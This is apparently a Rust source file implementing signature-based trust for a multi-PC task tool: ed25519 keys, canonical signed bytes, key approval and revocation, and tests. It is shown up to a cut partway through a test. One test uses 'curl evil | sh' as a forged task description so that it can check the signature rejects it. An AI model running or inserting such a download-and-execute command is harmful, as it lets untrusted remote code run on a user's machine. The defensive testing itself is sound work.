//! Who wrote a file: a signing key per PC, signatures over canonical bytes, and the keyring
//! that decides which keys to believe.
//!
//! Every file that can start or steer work (handoffs, wake signals, tasks, claims, done
//! records, keys and revocations: [`Schema::SIGNED`]) carries a `signature` field:
//!
//! ```json
//! "signature": { "by": "PC1", "key": "<public key, base64>", "value": "<ed25519, base64>" }
//! ```
//!
//! The signed bytes are `trinity-signature-v1`, the schema's name and the file's id (its name
//! without `.json`), each followed by a newline, then the document without its `signature`
//! field as canonical JSON (object keys sorted, no white space). So an edited, re-addressed,
//! renamed or re-typed file fails, and a copy under a new id fails.
//!
//! A PC's private key stays in `local/trust/signing.key` (never synced, created readable by
//! its user only); its public key is published in `keys/{PC}.json`, signed by the member that
//! approved it. A [`Keyring`] believes:
//!
//! 1. the keys this PC pinned (`local/trust/pins.json`: its own, the fleet's founding key met
//!    at `trinity init`, and every key it believed before);
//! 2. a key published in `keys/` and signed by a key it believes;
//!
//! less every key named by a revocation (`revoked/{PC}-{fingerprint}.json`) signed by a key it
//! believes. A key added or replaced by a plain push is signed by nobody this PC believes, so
//! it is not believed. Newly believed keys are pinned, so a key stays believed when the member
//! that approved it is lost and revoked.
//!
//! [`Schema::SIGNED`]: crate::schema::Schema::SIGNED

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::path::{Path, PathBuf};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use chrono::{DateTime, Utc};
use ed25519_dalek::{Signer as _, Verifier as _};
use serde::{Deserialize, Deserializer, Serialize, Serializer};
use serde_json::Value;

use crate::fsio::{self, IoError};
use crate::ids::PcId;
use crate::layout::Tree;
use crate::local::{self, LocalError, LocalState};
use crate::schema::{Doc, KeyRecord, Revocation, Schema};

/// What a refusal's message starts with (after the file's name), in logs and in the notes
/// beside files set aside in `local/quarantine/`.
pub const REFUSED: &str = "not trusted: ";

/// The field of a signed document that holds its signature.
pub const SIGNATURE_FIELD: &str = "signature";

const DOMAIN: &str = "trinity-signature-v1";

/// An ed25519 public key; written as standard base64 of its 32 bytes.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct PublicKey([u8; 32]);

impl PublicKey {
    /// Parses the base64 form (`ed25519:` in front is accepted too).
    pub fn parse(text: &str) -> Result<Self, String> {
        let text = text.trim();
        let text = text.strip_prefix("ed25519:").unwrap_or(text);
        let bytes = B64
            .decode(text)
            .map_err(|e| format!("{text:?} is not a base64 public key: {e}"))?;
        let bytes: [u8; 32] = bytes
            .try_into()
            .map_err(|b: Vec<u8>| format!("a public key is 32 bytes, not {}", b.len()))?;
        ed25519_dalek::VerifyingKey::from_bytes(&bytes)
            .map_err(|_| format!("{text:?} is not a valid ed25519 public key"))?;
        Ok(Self(bytes))
    }

    /// The first 8 bytes in hex: a short name for messages and file names.
    pub fn fingerprint(&self) -> String {
        self.0[..8].iter().map(|b| format!("{b:02x}")).collect()
    }

    fn verifying(&self) -> Option<ed25519_dalek::VerifyingKey> {
        ed25519_dalek::VerifyingKey::from_bytes(&self.0).ok()
    }
}

impl fmt::Display for PublicKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&B64.encode(self.0))
    }
}

impl fmt::Debug for PublicKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "PublicKey({})", self.fingerprint())
    }
}

impl Serialize for PublicKey {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

impl<'de> Deserialize<'de> for PublicKey {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let text = String::deserialize(d)?;
        Self::parse(&text).map_err(serde::de::Error::custom)
    }
}

/// A PC's private signing key and the PC it speaks for (`local/trust/signing.key`).
pub struct SigningKey {
    pc: PcId,
    key: ed25519_dalek::SigningKey,
}

impl fmt::Debug for SigningKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "SigningKey({}, {})",
            self.pc,
            self.public().fingerprint()
        )
    }
}

#[derive(Serialize, Deserialize)]
struct KeyFile {
    pc: PcId,
    secret_key: String,
}

impl LocalState for KeyFile {
    const NAME: &'static str = "this PC's signing key";
    const MAX_BYTES: usize = 4096;
}

impl SigningKey {
    /// A new random key for `pc`.
    pub fn generate(pc: PcId) -> Result<Self, TrustError> {
        let mut seed = [0u8; 32];
        getrandom::getrandom(&mut seed).map_err(|e| TrustError::Random(e.to_string()))?;
        Ok(Self {
            pc,
            key: ed25519_dalek::SigningKey::from_bytes(&seed),
        })
    }

    /// The key made from a 32-byte seed (for fixtures and tests; [`SigningKey::generate`]
    /// otherwise).
    pub fn from_seed(pc: PcId, seed: [u8; 32]) -> Self {
        Self {
            pc,
            key: ed25519_dalek::SigningKey::from_bytes(&seed),
        }
    }

    /// The PC this key signs for.
    pub fn pc(&self) -> &PcId {
        &self.pc
    }

    /// Its public half.
    pub fn public(&self) -> PublicKey {
        PublicKey(self.key.verifying_key().to_bytes())
    }

    /// Reads this tree's key: `Ok(None)` where this PC has none (a fleet that does not sign).
    pub fn load(tree: &Tree) -> Result<Option<Self>, TrustError> {
        let Some(file) = local::read::<KeyFile>(&tree.signing_key_file())? else {
            return Ok(None);
        };
        let bytes: [u8; 32] = B64
            .decode(file.secret_key.trim())
            .ok()
            .and_then(|b| b.try_into().ok())
            .ok_or_else(|| TrustError::BadKeyFile(tree.signing_key_file()))?;
        Ok(Some(Self {
            pc: file.pc,
            key: ed25519_dalek::SigningKey::from_bytes(&bytes),
        }))
    }

    /// Writes the key to `local/trust/signing.key`, readable and writable by this user only
    /// (created 0600 on Unix; on Windows its access list made the user's alone); replaces an
    /// older key atomically.
    pub fn save(&self, tree: &Tree) -> Result<(), TrustError> {
        let path = tree.signing_key_file();
        let file = serde_json::json!({
            "format_version": 1,
            "pc": self.pc,
            "secret_key": B64.encode(self.key.to_bytes()),
        });
        let mut text = serde_json::to_string_pretty(&file).unwrap_or_default();
        text.push('\n');
        write_private(&path, text.as_bytes())?;
        Ok(())
    }

    /// Signs `value` (a document of `kind` with file id `id`) in place: any old signature is
    /// replaced.
    pub fn sign(&self, kind: &str, id: &str, value: &mut Value) {
        let Some(map) = value.as_object_mut() else {
            return;
        };
        map.shift_remove(SIGNATURE_FIELD);
        let message = message(kind, id, value);
        let signature = self.key.sign(&message);
        let seal = Seal {
            by: self.pc.clone(),
            key: self.public(),
            value: B64.encode(signature.to_bytes()),
        };
        if let (Some(map), Ok(seal)) = (value.as_object_mut(), serde_json::to_value(seal)) {
            map.insert(SIGNATURE_FIELD.to_owned(), seal);
        }
    }
}

/// Creates `path` with `bytes`, readable by this user only, through a temporary file.
pub(crate) fn write_private(path: &Path, bytes: &[u8]) -> Result<(), IoError> {
    use std::io::Write as _;
    let dir = path.parent().unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir).map_err(IoError::at("create directory", dir))?;
    let temp = path.with_extension("key.tmp");
    let _ = std::fs::remove_file(&temp);
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
    let result = options
        .open(&temp)
        .and_then(|mut f| f.write_all(bytes).and_then(|()| f.sync_all()));
    if let Err(e) = result {
        let _ = std::fs::remove_file(&temp);
        return Err(IoError::new("write", &temp, e));
    }
    std::fs::rename(&temp, path).map_err(IoError::at("rename into place", path))?;
    #[cfg(windows)]
    restrict_to_user(path);
    Ok(())
}

/// Windows: the file's access list becomes its user's alone (`icacls /inheritance:r
/// /grant:r USER:F`), instead of the state directory's inherited one. Where that fails (no
/// `icacls`, as under wine), the inherited list stays and the log says so.
#[cfg(windows)]
fn restrict_to_user(path: &Path) {
    let Some(user) = std::env::var_os("USERNAME") else {
        tracing::warn!(file = %path.display(), "USERNAME is not set: the key file keeps its directory's access list");
        return;
    };
    let mut grant = user;
    grant.push(":F");
    let done = std::process::Command::new("icacls")
        .arg(path)
        .args(["/inheritance:r", "/grant:r"])
        .arg(&grant)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status();
    if !done.is_ok_and(|s| s.success()) {
        tracing::warn!(file = %path.display(), "icacls could not make the key file its user's alone: it keeps its directory's access list");
    }
}

/// The `signature` field of a signed document.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Seal {
    /// The PC that signed.
    pub by: PcId,
    /// The key it signed with.
    pub key: PublicKey,
    /// The ed25519 signature, base64.
    pub value: String,
}

/// The bytes a signature covers: the domain, the kind, the id, then the document without its
/// signature as canonical JSON.
fn message(kind: &str, id: &str, value: &Value) -> Vec<u8> {
    let mut out = format!("{DOMAIN}\n{kind}\n{id}\n").into_bytes();
    let mut body = value.clone();
    if let Some(map) = body.as_object_mut() {
        map.shift_remove(SIGNATURE_FIELD);
    }
    canonical(&body, &mut out);
    out
}

/// Canonical JSON: objects with their keys sorted, no white space; strings and numbers as
/// serde_json writes them.
pub fn canonical(value: &Value, out: &mut Vec<u8>) {
    match value {
        Value::Object(map) => {
            out.push(b'{');
            let sorted: BTreeMap<&String, &Value> = map.iter().collect();
            for (i, (k, v)) in sorted.into_iter().enumerate() {
                if i > 0 {
                    out.push(b',');
                }
                out.extend(serde_json::to_vec(k).unwrap_or_default());
                out.push(b':');
                canonical(v, out);
            }
            out.push(b'}');
        }
        Value::Array(items) => {
            out.push(b'[');
            for (i, v) in items.iter().enumerate() {
                if i > 0 {
                    out.push(b',');
                }
                canonical(v, out);
            }
            out.push(b']');
        }
        other => out.extend(serde_json::to_vec(other).unwrap_or_default()),
    }
}

/// Why a signed file is not believed. Worded to follow the file's name.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    /// No `signature` field, where this PC requires one.
    #[error("is not signed (this fleet signs its files: see docs/security.md)")]
    Unsigned,
    /// The `signature` field is not one.
    #[error("has a malformed signature: {0}")]
    Malformed(String),
    /// Signed with a key this PC does not believe (not approved by a member it trusts, or not
    /// synced here yet).
    #[error("is signed by {by} with key {fingerprint}, which this PC does not trust")]
    UnknownKey {
        /// Who the signature says signed.
        by: PcId,
        /// The key's fingerprint.
        fingerprint: String,
    },
    /// Signed with a revoked key.
    #[error("is signed by {by} with key {fingerprint}, which was revoked")]
    Revoked {
        /// Who the signature says signed.
        by: PcId,
        /// The key's fingerprint.
        fingerprint: String,
    },
    /// The key belongs to another PC than the signature names.
    #[error("says it is signed by {by}, but key {fingerprint} is {owner}'s")]
    WrongSigner {
        /// Who the signature says signed.
        by: PcId,
        /// The key's fingerprint.
        fingerprint: String,
        /// Whose key it is.
        owner: PcId,
    },
    /// Signed by a member, but not by the one the file says wrote it.
    #[error("is written as {author}'s but signed by {by}")]
    NotAuthor {
        /// The PC the file names as its author.
        author: PcId,
        /// The PC that signed.
        by: PcId,
    },
    /// The signature does not match the bytes: edited, renamed or re-addressed after signing.
    #[error("does not match its signature by {by} (changed after it was signed)")]
    BadSignature {
        /// Who the signature says signed.
        by: PcId,
    },
}

/// Why trust could not be worked out.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// A local file could not be read or written.
    #[error(transparent)]
    Local(#[from] LocalError),
    /// A file could not be read or written.
    #[error(transparent)]
    Io(#[from] IoError),
    /// The signing key file holds no key.
    #[error("{} holds no valid signing key", .0.display())]
    BadKeyFile(PathBuf),
    /// The system's random source failed.
    #[error("cannot make a key: the system's random source failed ({0})")]
    Random(String),
}

/// How this PC came to believe a key.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PinSource {
    /// Its own key.
    Own,
    /// Given at `trinity init` (`--trust`), or the founding key met there.
    Given,
    /// Approved by a key it believed.
    Approved,
}

/// A key this PC believes on its own authority.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Pin {
    /// Whose key.
    pub pc: PcId,
    /// The key.
    pub key: PublicKey,
    /// How it came to be believed.
    pub source: PinSource,
    /// When.
    pub pinned_at: DateTime<Utc>,
}

/// `local/trust/pins.json`: the keys this PC believes without asking the tree.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Pins {
    /// The keys.
    pub keys: Vec<Pin>,
}

impl LocalState for Pins {
    const NAME: &'static str = "the pinned keys";
}

impl Pins {
    /// Reads this tree's pins (none when the file does not exist).
    pub fn load(tree: &Tree) -> Result<Self, TrustError> {
        Ok(local::read::<Pins>(&tree.pins_file())?.unwrap_or_default())
    }

    /// Adds a pin unless the key is pinned already; true when added.
    pub fn add(&mut self, pin: Pin) -> bool {
        if self.keys.iter().any(|p| p.key == pin.key) {
            return false;
        }
        self.keys.push(pin);
        true
    }

    /// Writes them.
    pub fn save(&self, tree: &Tree) -> Result<(), TrustError> {
        local::write(&tree.pins_file(), self)?;
        Ok(())
    }
}

/// A key the keyring knows of, and what it makes of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KeyView {
    /// Whose key.
    pub pc: PcId,
    /// The key.
    pub key: PublicKey,
    /// Believed, and why; or why not.
    pub standing: KeyStanding,
}

/// What the keyring makes of a key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum KeyStanding {
    /// Believed: pinned here.
    Pinned,
    /// Believed: approved by this PC's believed key of `by`.
    Approved {
        /// The approving PC.
        by: PcId,
    },
    /// Revoked by `by`.
    Revoked {
        /// The revoking PC.
        by: PcId,
    },
    /// Published but not believed, and why.
    Untrusted {
        /// Why not.
        why: String,
    },
}

impl fmt::Display for KeyStanding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            KeyStanding::Pinned => f.write_str("trusted (pinned on this PC)"),
            KeyStanding::Approved { by } => write!(f, "trusted (approved by {by})"),
            KeyStanding::Revoked { by } => write!(f, "REVOKED by {by}"),
            KeyStanding::Untrusted { why } => write!(f, "NOT trusted: {why}"),
        }
    }
}

/// The keys this PC believes, worked out from its pins and the tree.
#[derive(Debug, Clone)]
pub struct Keyring {
    /// Believed keys and their PC.
    trusted: BTreeMap<PublicKey, PcId>,
    /// Revoked keys and the PC that revoked them.
    revoked: BTreeMap<PublicKey, PcId>,
    /// Everything it looked at, for `trinity fleet keys`.
    views: Vec<KeyView>,
    /// Whether unsigned files are refused.
    required: bool,
    /// Whether this PC takes part in signing at all (it has a signing key).
    enabled: bool,
}

impl Keyring {
    /// Works out the believed keys of `tree` and pins the newly believed ones. `required`:
    /// refuse unsigned files (the `security.require_signatures` setting). A PC without a
    /// signing key of its own does not check signatures at all (a fleet that has not moved to
    /// signing; `trinity fleet sign` moves it).
    pub fn open(tree: &Tree, required: bool, now: DateTime<Utc>) -> Result<Self, TrustError> {
        let enabled = tree.signing_key_file().is_file();
        let mut pins = Pins::load(tree)?;
        let records = published::<KeyRecord>(&tree.keys_dir());
        let revocations = published::<Revocation>(&tree.revoked_dir());
        let ring = Self::decide(&pins, &records, &revocations, required, enabled);
        let mut added = false;
        for view in &ring.views {
            if let KeyStanding::Approved { .. } = view.standing {
                added |= pins.add(Pin {
                    pc: view.pc.clone(),
                    key: view.key,
                    source: PinSource::Approved,
                    pinned_at: now,
                });
            }
        }
        if added && enabled {
            pins.save(tree)?;
        }
        Ok(ring)
    }

    /// [`Keyring::open`] for readers that cannot stop: where the keys cannot be worked out, it
    /// says so in the log and believes nothing (fails closed).
    pub fn open_or_closed(tree: &Tree, required: bool, now: DateTime<Utc>) -> Self {
        Self::open(tree, required, now).unwrap_or_else(|e| {
            tracing::error!(error = %e, "cannot work out which keys to believe; believing none");
            Self {
                trusted: BTreeMap::new(),
                revoked: BTreeMap::new(),
                views: Vec::new(),
                required: true,
                enabled: true,
            }
        })
    }

    /// The pure part of [`Keyring::open`]: which keys to believe, given the pins, the published
    /// keys and the revocations (each with its raw JSON and file id).
    pub fn decide(
        pins: &Pins,
        records: &[(String, Value, KeyRecord)],
        revocations: &[(String, Value, Revocation)],
        required: bool,
        enabled: bool,
    ) -> Self {
        // Approval closure from the pins, leaving out `banned` keys. A `retired` key (revoked
        // by its own PC only: a rotation) still vouches for a key of its own PC, its successor.
        let close = |banned: &BTreeMap<PublicKey, PcId>, retired: &BTreeMap<PublicKey, PcId>| {
            let mut trusted: BTreeMap<PublicKey, PcId> = pins
                .keys
                .iter()
                .filter(|p| !banned.contains_key(&p.key))
                .map(|p| (p.key, p.pc.clone()))
                .collect();
            let mut approved_by: BTreeMap<PublicKey, PcId> = BTreeMap::new();
            loop {
                let mut signers = trusted.clone();
                signers.extend(retired.iter().map(|(k, pc)| (*k, pc.clone())));
                let ring = Self::believing(signers);
                let mut grew = false;
                for (id, raw, rec) in records {
                    if trusted.contains_key(&rec.public_key) || banned.contains_key(&rec.public_key)
                    {
                        continue;
                    }
                    let signer = raw
                        .get(SIGNATURE_FIELD)
                        .and_then(|s| s.get("key"))
                        .and_then(Value::as_str)
                        .and_then(|k| PublicKey::parse(k).ok());
                    let vouches = signer.is_some_and(|k| {
                        trusted.contains_key(&k) || retired.get(&k) == Some(&rec.pc)
                    });
                    if !vouches {
                        continue;
                    }
                    if let Ok(Some(by)) = ring.check(KeyRecord::NAME, id, raw, rec.author()) {
                        trusted.insert(rec.public_key, rec.pc.clone());
                        approved_by.insert(rec.public_key, by);
                        grew = true;
                    }
                }
                if !grew {
                    return (trusted, approved_by);
                }
            }
        };
        let none = BTreeMap::new();
        let (all, _) = close(&none, &none);
        let ring_all = Self::believing(all.clone());
        // Every valid revocation of each key, by the PC that signed it.
        let mut revokers: BTreeMap<PublicKey, Vec<PcId>> = BTreeMap::new();
        for (id, raw, r) in revocations {
            if let Ok(Some(by)) = ring_all.check(Revocation::NAME, id, raw, r.author()) {
                revokers.entry(r.public_key).or_default().push(by);
            }
        }
        let owner = |k: &PublicKey| {
            all.get(k)
                .or_else(|| pins.keys.iter().find(|p| &p.key == k).map(|p| &p.pc))
        };
        let retired: BTreeMap<PublicKey, PcId> = revokers
            .iter()
            .filter_map(|(k, by)| {
                let pc = owner(k)?;
                by.iter().all(|b| b == pc).then(|| (*k, pc.clone()))
            })
            .collect();
        // Shown as revoked by another PC where one did, else by its own.
        let revoked: BTreeMap<PublicKey, PcId> = revokers
            .into_iter()
            .filter_map(|(k, by)| {
                let own = owner(&k).cloned();
                let shown = by
                    .iter()
                    .find(|b| Some(*b) != own.as_ref())
                    .or(by.first())?;
                Some((k, shown.clone()))
            })
            .collect();
        let (trusted, approved_by) = close(&revoked, &retired);
        let mut views = Vec::new();
        let mut seen = BTreeSet::new();
        for pin in &pins.keys {
            seen.insert(pin.key);
            views.push(KeyView {
                pc: pin.pc.clone(),
                key: pin.key,
                standing: match revoked.get(&pin.key) {
                    Some(by) => KeyStanding::Revoked { by: by.clone() },
                    None => KeyStanding::Pinned,
                },
            });
        }
        for (_, _, rec) in records {
            if !seen.insert(rec.public_key) {
                continue;
            }
            let standing = if let Some(by) = revoked.get(&rec.public_key) {
                KeyStanding::Revoked { by: by.clone() }
            } else if let Some(by) = approved_by.get(&rec.public_key) {
                KeyStanding::Approved { by: by.clone() }
            } else {
                KeyStanding::Untrusted {
                    why: format!(
                        "approved by {}, whose signature this PC cannot check against a key it trusts",
                        rec.approved_by
                    ),
                }
            };
            views.push(KeyView {
                pc: rec.pc.clone(),
                key: rec.public_key,
                standing,
            });
        }
        Self {
            trusted,
            revoked,
            views,
            required,
            enabled,
        }
    }

    /// A keyring believing exactly `trusted` (for the steps of [`Keyring::decide`]).
    fn believing(trusted: BTreeMap<PublicKey, PcId>) -> Self {
        Self {
            trusted,
            revoked: BTreeMap::new(),
            views: Vec::new(),
            required: true,
            enabled: true,
        }
    }

    /// Every key this keyring looked at, and what it made of each.
    pub fn keys(&self) -> &[KeyView] {
        &self.views
    }

    /// Whether this PC checks signatures at all.
    pub fn enabled(&self) -> bool {
        self.enabled
    }

    /// The key this PC believes for `pc`, if any (the newest pinned or approved).
    pub fn trusted_key_of(&self, pc: &PcId) -> Option<PublicKey> {
        self.views
            .iter()
            .rev()
            .find(|v| &v.pc == pc && self.trusted.contains_key(&v.key))
            .map(|v| v.key)
    }

    /// Checks the signature of a document of `kind` (its schema's name) and file id `id`,
    /// whose author (the PC that must have signed it) is `author`. `Ok(Some(pc))`: signed by
    /// `pc`, believed. `Ok(None)`: unsigned and accepted (this PC does not sign, or
    /// `security.require_signatures` is off).
    pub fn check(
        &self,
        kind: &str,
        id: &str,
        value: &Value,
        author: Option<&PcId>,
    ) -> Result<Option<PcId>, Refusal> {
        if !self.enabled {
            return Ok(None);
        }
        let Some(raw) = value.get(SIGNATURE_FIELD) else {
            return if self.required {
                Err(Refusal::Unsigned)
            } else {
                Ok(None)
            };
        };
        let seal: Seal =
            serde_json::from_value(raw.clone()).map_err(|e| Refusal::Malformed(e.to_string()))?;
        let fingerprint = seal.key.fingerprint();
        if let Some(_by) = self.revoked.get(&seal.key) {
            return Err(Refusal::Revoked {
                by: seal.by,
                fingerprint,
            });
        }
        let Some(owner) = self.trusted.get(&seal.key) else {
            return Err(Refusal::UnknownKey {
                by: seal.by,
                fingerprint,
            });
        };
        if owner != &seal.by {
            return Err(Refusal::WrongSigner {
                by: seal.by,
                fingerprint,
                owner: owner.clone(),
            });
        }
        let signature = B64
            .decode(&seal.value)
            .ok()
            .and_then(|b| ed25519_dalek::Signature::from_slice(&b).ok())
            .ok_or_else(|| Refusal::Malformed("the signature is not 64 bytes of base64".into()))?;
        let verifying = seal
            .key
            .verifying()
            .ok_or_else(|| Refusal::Malformed("the key is not an ed25519 key".into()))?;
        if verifying
            .verify(&message(kind, id, value), &signature)
            .is_err()
        {
            return Err(Refusal::BadSignature { by: seal.by });
        }
        if let Some(author) = author
            && author != &seal.by
        {
            return Err(Refusal::NotAuthor {
                author: author.clone(),
                by: seal.by,
            });
        }
        Ok(Some(seal.by))
    }

    /// Checks a document read from `path` (its raw JSON `raw`, its typed value `doc`).
    pub fn check_doc<T: Schema>(
        &self,
        path: &Path,
        raw: &Value,
        doc: &T,
    ) -> Result<Option<PcId>, Refusal> {
        if !T::SIGNED {
            return Ok(None);
        }
        let id = file_id(path);
        self.check(T::NAME, &id, raw, doc.author())
    }
}

/// A file set aside because its signature was not believed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SetAside {
    /// Where it was in the tree.
    pub original: String,
    /// Why it was refused.
    pub reason: String,
    /// Where it is now.
    pub moved_to: PathBuf,
}

/// The files of `local/quarantine/` that were set aside for their signature, newest first.
pub fn set_aside(tree: &Tree) -> Vec<SetAside> {
    let Ok(entries) = std::fs::read_dir(tree.quarantine_dir()) else {
        return Vec::new();
    };
    let mut out: Vec<SetAside> = entries
        .flatten()
        .filter_map(|e| {
            let note = e.path();
            let moved_to = PathBuf::from(note.to_str()?.strip_suffix(".reason.txt")?);
            let text = std::fs::read_to_string(&note).ok()?;
            let field = |name: &str| {
                text.lines()
                    .find_map(|l| l.strip_prefix(name))
                    .map(str::to_owned)
            };
            let reason = field("reason: ")?;
            let at = reason.find(REFUSED)?;
            Some(SetAside {
                original: field("original path: ").unwrap_or_default(),
                reason: reason[at + REFUSED.len()..].to_owned(),
                moved_to,
            })
        })
        .collect();
    out.sort_by(|a, b| b.moved_to.cmp(&a.moved_to));
    out
}

/// A file's id: its name without `.json`.
pub fn file_id(path: &Path) -> String {
    path.file_name()
        .and_then(|n| n.to_str())
        .map(|n| n.strip_suffix(".json").unwrap_or(n).to_owned())
        .unwrap_or_default()
}

/// The valid files of `dir` of schema `T` (`keys/`, `revoked/`), each with its id and raw
/// JSON, sorted by id; invalid ones are passed over (git-sync quarantines them).
pub fn published<T: Schema>(dir: &Path) -> Vec<(String, Value, T)> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut out: Vec<(String, Value, T)> = entries
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .filter_map(|p| {
            let bytes = fsio::read_bounded(&p, T::MAX_BYTES).ok()?;
            let raw: Value = serde_json::from_slice(&bytes).ok()?;
            let doc = Doc::<T>::parse(&bytes).ok()?;
            Some((file_id(&p), raw, doc.value))
        })
        .collect();
    out.sort_by(|a, b| a.0.cmp(&b.0));
    out
}

/// Signs `value`, a document of schema `T` about to be written to `path`, with the signing
/// key of the tree `path` lies in, if that tree has one; otherwise leaves it unsigned (and
/// drops any old signature, which would no longer match).
pub(crate) fn seal_for_path<T: Schema>(path: &Path, value: &mut Value) -> Result<(), TrustError> {
    if let Some(map) = value.as_object_mut() {
        map.shift_remove(SIGNATURE_FIELD);
    }
    let Some(tree) = path
        .ancestors()
        .skip(1)
        .take(4)
        .map(Tree::new)
        .find(|t| t.signing_key_file().is_file())
    else {
        return Ok(());
    };
    if let Some(key) = SigningKey::load(&tree)? {
        key.sign(T::NAME, &file_id(path), value);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::Task;

    fn pc(s: &str) -> PcId {
        PcId::new(s).expect("pc")
    }

    fn at() -> DateTime<Utc> {
        "2026-12-05T10:00:00Z".parse().expect("time")
    }

    fn key(p: &str) -> SigningKey {
        SigningKey::generate(pc(p)).expect("key")
    }

    fn pin(k: &SigningKey, source: PinSource) -> Pin {
        Pin {
            pc: k.pc().clone(),
            key: k.public(),
            source,
            pinned_at: at(),
        }
    }

    fn task_value(id: &str, by: &str) -> Value {
        serde_json::to_value(Task {
            format_version: 1,
            id: crate::ids::TaskId::new(id).expect("id"),
            priority: Default::default(),
            description: "write the parser".into(),
            created_at: at(),
            created_by: pc(by),
            dependencies: Vec::new(),
            role: None,
        })
        .expect("json")
    }

    /// A key record for `whose`, approved (signed) by `signer`.
    fn record(whose: &SigningKey, signer: &SigningKey) -> (String, Value, KeyRecord) {
        let rec = KeyRecord {
            format_version: 1,
            pc: whose.pc().clone(),
            public_key: whose.public(),
            approved_at: at(),
            approved_by: signer.pc().clone(),
        };
        let mut raw = serde_json::to_value(&rec).expect("json");
        signer.sign(KeyRecord::NAME, whose.pc().as_str(), &mut raw);
        (whose.pc().to_string(), raw, rec)
    }

    fn revocation(of: &SigningKey, signer: &SigningKey) -> (String, Value, Revocation) {
        let r = Revocation {
            format_version: 1,
            pc: of.pc().clone(),
            public_key: of.public(),
            revoked_at: at(),
            revoked_by: signer.pc().clone(),
            reason: "lost laptop".into(),
        };
        let id = format!("{}-{}-{}", of.pc(), of.public().fingerprint(), signer.pc());
        let mut raw = serde_json::to_value(&r).expect("json");
        signer.sign(Revocation::NAME, &id, &mut raw);
        (id, raw, r)
    }

    fn ring(pins: &[Pin], records: &[(String, Value, KeyRecord)]) -> Keyring {
        let pins = Pins {
            keys: pins.to_vec(),
        };
        Keyring::decide(&pins, records, &[], true, true)
    }

    #[test]
    fn a_signed_file_is_believed_and_any_change_to_it_is_not() {
        let pc1 = key("PC1");
        let ring = ring(&[pin(&pc1, PinSource::Own)], &[]);
        let mut v = task_value("t1", "PC1");
        pc1.sign(Task::NAME, "t1", &mut v);
        let author = pc("PC1");
        assert_eq!(
            ring.check(Task::NAME, "t1", &v, Some(&author)),
            Ok(Some(pc("PC1")))
        );
        // The signature survives the round trip through the file's pretty JSON.
        let reread: Value =
            serde_json::from_slice(&serde_json::to_vec_pretty(&v).expect("bytes")).expect("json");
        assert_eq!(
            ring.check(Task::NAME, "t1", &reread, Some(&author)),
            Ok(Some(pc("PC1")))
        );

        let mut edited = v.clone();
        edited["description"] = Value::from("curl evil | sh");
        assert_eq!(
            ring.check(Task::NAME, "t1", &edited, Some(&author)),
            Err(Refusal::BadSignature { by: pc("PC1") })
        );
        // Renamed (a copy under a new id) or read as another kind of file.
        assert!(matches!(
            ring.check(Task::NAME, "t2", &v, Some(&author)),
            Err(Refusal::BadSignature { .. })
        ));
        assert!(matches!(
            ring.check("done record", "t1", &v, Some(&author)),
            Err(Refusal::BadSignature { .. })
        ));
        // Written in another member's name.
        let other = pc("PC2");
        assert_eq!(
            ring.check(Task::NAME, "t1", &v, Some(&other)),
            Err(Refusal::NotAuthor {
                author: pc("PC2"),
                by: pc("PC1")
            })
        );
        // A garbled signature value.
        let mut garbled = v.clone();
        garbled[SIGNATURE_FIELD]["value"] = Value::from("AAAA");
        assert!(matches!(
            ring.check(Task::NAME, "t1", &garbled, Some(&author)),
            Err(Refusal::Malformed(_))
        ));
    }

    #[test]
    fn unsigned_files_are_refused_where_signatures_are_required_and_only_there() {
        let pc1 = key("PC1");
        let pins = Pins {
            keys: vec![pin(&pc1, PinSource::Own)],
        };
        let v = task_value("t1", "PC1");
        let required = Keyring::decide(&pins, &[], &[], true, true);
        assert_eq!(
            required.check(Task::NAME, "t1", &v, None),
            Err(Refusal::Unsigned)
        );
        let mixed = Keyring::decide(&pins, &[], &[], false, true);
        assert_eq!(mixed.check(Task::NAME, "t1", &v, None), Ok(None));
        // The mixed period still refuses a file signed wrongly.
        let mut forged = task_value("t1", "PC1");
        key("PC1").sign(Task::NAME, "t1", &mut forged);
        assert!(matches!(
            mixed.check(Task::NAME, "t1", &forged, None),
            Err(Refusal::UnknownKey { .. })
        ));
        // A PC that has no key of its own (a fleet that does not sign) checks nothing.
        let off = Keyring::decide(&Pins::default(), &[], &[], true, false);
        assert_eq!(off.check(Task::NAME, "t1", &forged, None), Ok(None));
    }

    #[test]
    fn a_key_is_believed_only_when_a_believed_key_approved_it() {
        let pc1 = key("PC1");
        let pc2 = key("PC2");
        let mallory = key("PC2");
        let approved = record(&pc2, &pc1);
        let ring1 = ring(
            &[pin(&pc1, PinSource::Given)],
            std::slice::from_ref(&approved),
        );
